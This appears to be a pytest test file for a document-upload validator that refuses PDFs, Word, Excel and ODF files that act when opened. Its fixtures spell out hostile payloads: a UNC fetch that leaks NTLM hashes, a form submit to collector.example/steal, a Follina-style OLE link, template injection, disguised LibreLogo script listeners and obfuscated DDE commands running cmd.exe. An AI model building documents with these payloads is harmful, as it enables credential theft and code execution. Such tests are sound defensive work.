"""Probe of the evidence intake with PDFs that act as they are opened without any script: an
/OpenAction that fetches a remote file (a UNC path: Windows sends the opener's NTLM hash),
submits a form to a web address or opens one. The intake refuses what runs on opening (ADR 24);
a plain go-to (open at a page) stays harmless."""

from __future__ import annotations

from pathlib import Path

import pytest
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests import evidence_files as files
from tradehall.membership.evidence import EvidenceRefused, inspect


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


@pytest.mark.parametrize(
    "action",
    [
        _action("/GoToR", F="\\\\203.0.113.9\\share\\x.pdf"),
        _action("/SubmitForm", F="https://collector.example/steal"),
        _action("/URI", URI="https://tracker.example/opened"),
        _action("/Thread", F="\\\\203.0.113.9\\share\\x.pdf"),
        _action("/Sound"),
    ],
    ids=["gotor-unc", "submit-form", "uri", "thread", "sound"],
)
def test_a_pdf_that_acts_on_opening_is_refused(tmp_path: Path, action: DictionaryObject) -> None:
    path = tmp_path / "upload.pdf"
    path.write_bytes(files.pdf(action=action))

    with pytest.raises(EvidenceRefused, match="on opening"):
        inspect(path)


def test_a_pdf_that_opens_at_a_page_is_taken(tmp_path: Path) -> None:
    path = tmp_path / "upload.pdf"
    path.write_bytes(files.pdf(action=_action("/GoTo", D="chapter-1")))

    assert inspect(path).content_type == "application/pdf"


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _rels(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'
        "</Relationships>"
    ).encode()


@pytest.mark.parametrize(
    ("part", "kind", "target"),
    [
        # Follina (CVE-2022-30190): an external OLE object's HTML runs ms-msdt on opening.
        ("word/_rels/document.xml.rels", "oleObject", "http://203.0.113.9/x.html!"),
        # A remote template, fetched as Word opens the file (template injection, NTLM leak).
        ("word/_rels/settings.xml.rels", "attachedTemplate", "\\\\203.0.113.9\\t\\x.dotm"),
        ("word/_rels/document.xml.rels", "image", "http://tracker.example/pixel.png"),
        ("word/_rels/webSettings.xml.rels", "frame", "http://203.0.113.9/frame.docx"),
    ],
    ids=["ole-object", "attached-template", "image", "frame"],
)
def test_an_office_document_that_fetches_from_outside_on_opening_is_refused(
    tmp_path: Path, part: str, kind: str, target: str
) -> None:
    path = tmp_path / "upload.docx"
    path.write_bytes(files.docx((part, _rels(kind, target))))

    with pytest.raises(EvidenceRefused, match="outside"):
        inspect(path)


def test_an_office_document_with_web_links_or_its_own_parts_is_taken(tmp_path: Path) -> None:
    path = tmp_path / "upload.docx"
    links = _rels("hyperlink", "https://example.org/report")
    inside = _rels("image", "media/image1.png", mode="")
    path.write_bytes(
        files.docx(("word/_rels/document.xml.rels", links), ("word/_rels/footer1.xml.rels", inside))
    )

    assert inspect(path).extension == "docx"


@pytest.mark.parametrize("disguise", ["character references", "utf-16"])
def test_an_external_relationship_in_disguise_is_refused(tmp_path: Path, disguise: str) -> None:
    """Office resolves character references and reads UTF-16 parts: so does the check."""
    rels = _rels("oleObject", "http://203.0.113.9/x.html!", mode='TargetMode="Extern&#97;l"')
    if disguise == "utf-16":
        rels = _rels("oleObject", "http://203.0.113.9/x.html!").decode().encode("utf-16")
    path = tmp_path / "upload.docx"
    path.write_bytes(files.docx(("word/_rels/document.xml.rels", rels)))

    with pytest.raises(EvidenceRefused, match="outside"):
        inspect(path)


LIBRELOGO = "LibreLogo|LibreLogo.py$run?location=share"
SCRIPT_NS = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"


def _content(listener: str) -> bytes:
    return f"<office:document-content>{listener}</office:document-content>".encode()


@pytest.mark.parametrize(
    "content",
    [
        # The listener's element under another prefix for the script namespace, and the
        # script's address behind a character reference (the XML parser resolves it).
        _content(
            f'<s:event-listener xmlns:s="{SCRIPT_NS}" '
            f'xlink:href="vnd.sun.star.script&#58;{LIBRELOGO}"/>'
        ),
        # The whole part in UTF-16, which the office suite reads as well.
        _content(f'<script:event-listener xlink:href="vnd.sun.star.script:{LIBRELOGO}"/>')
        .decode()
        .encode("utf-16"),
        # An entity of the part's own DTD standing for the script's address.
        b'<!DOCTYPE d [<!ENTITY s "vnd.sun.star.scrip&#116;:">]>'
        + _content(f'<s:event-listener xmlns:s="{SCRIPT_NS}" xlink:href="&s;{LIBRELOGO}"/>'),
    ],
    ids=["prefix-and-reference", "utf-16", "dtd-entity"],
)
def test_an_odf_script_in_disguise_is_refused(tmp_path: Path, content: bytes) -> None:
    """ADR 24 refuses ODF event listeners and script links (they run the suite's own installed
    scripts, LibreLogo's included); the check read the raw bytes for fixed spellings."""
    path = tmp_path / "upload.odt"
    path.write_bytes(files.odt(content=content))

    with pytest.raises(EvidenceRefused, match="macros or scripts"):
        inspect(path)


def test_an_odf_document_with_ordinary_text_is_taken(tmp_path: Path) -> None:
    path = tmp_path / "upload.odt"
    text = "<text:p>Scripts &amp; macros: we use neither &#8212; see the appendix.</text:p>"
    path.write_bytes(files.odt(content=_content(text)))

    assert inspect(path).extension == "odt"


_field = files.field


def _sheet(cell: str, *extra: tuple[str, bytes]) -> bytes:
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1"><c r="A1">{cell}</c></row></sheetData></worksheet>'
    ).encode()
    return files.zip_of(
        [
            ("[Content_Types].xml", files.content_types(("/xl/workbook.xml", files.XLSX_MAIN))),
            ("_rels/.rels", files.RELS),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", sheet),
            *extra,
        ]
    )


DDE_COMMAND = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (files.word(_field(f"DDEAUTO {DDE_COMMAND}")), "upload.docx"),
        # Split across runs, as Word itself often stores a field's code.
        (files.word(_field(" dd", "eAuto ", DDE_COMMAND)), "upload.docx"),
        (
            files.word(
                # The command's quotes escaped: the attribute is well-formed XML.
                f'<w:fldSimple w:instr="DDE {DDE_COMMAND.replace(chr(34), "&quot;")}">'
                "<w:r><w:t>1</w:t></w:r></w:fldSimple>"
            ),
            "upload.docx",
        ),
        # The field's name computed by a nested field (QUOTE of the letters' codes).
        (
            files.word(
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                + _field("QUOTE 68 68 69 65 85 84 79")
                + f"<w:r><w:instrText> {DDE_COMMAND}</w:instrText></w:r>"
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            ),
            "upload.docx",
        ),
        (_sheet("<f>cmd|' /C calc'!A0</f>"), "upload.xlsx"),
        (_sheet("<f>cmd&#124;' /C calc'!A0</f>"), "upload.xlsx"),
        (
            _sheet(
                "<v>1</v>",
                (
                    "xl/externalLinks/externalLink1.xml",
                    b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
                ),
            ),
            "upload.xlsx",
        ),
    ],
    ids=[
        "ddeauto",
        "ddeauto-split",
        "fldsimple-dde",
        "computed-name",
        "xlsx-formula",
        "xlsx-formula-reference",
        "xlsx-dde-link",
    ],
)
def test_an_office_document_with_a_dde_link_is_refused(
    tmp_path: Path, data: bytes, name: str
) -> None:
    """DDE starts a program named in the document once the reader agrees to update links
    (ADR 24 listed DDE fields as not checked)."""
    path = tmp_path / name
    path.write_bytes(data)

    with pytest.raises(EvidenceRefused, match="DDE"):
        inspect(path)


def test_office_documents_with_ordinary_fields_and_formulas_are_taken(tmp_path: Path) -> None:
    word = tmp_path / "fields.docx"
    word.write_bytes(
        files.word(
            _field("PAGE") + _field(" HYPERLINK ", '"https://example.org/a|b"') + _field("ADDED")
        )
    )
    sheet = tmp_path / "sums.xlsx"
    sheet.write_bytes(_sheet('<f>SUM(B1:B9)&amp;" | total"</f>'))

    assert inspect(word).extension == "docx"
    assert inspect(sheet).extension == "xlsx"
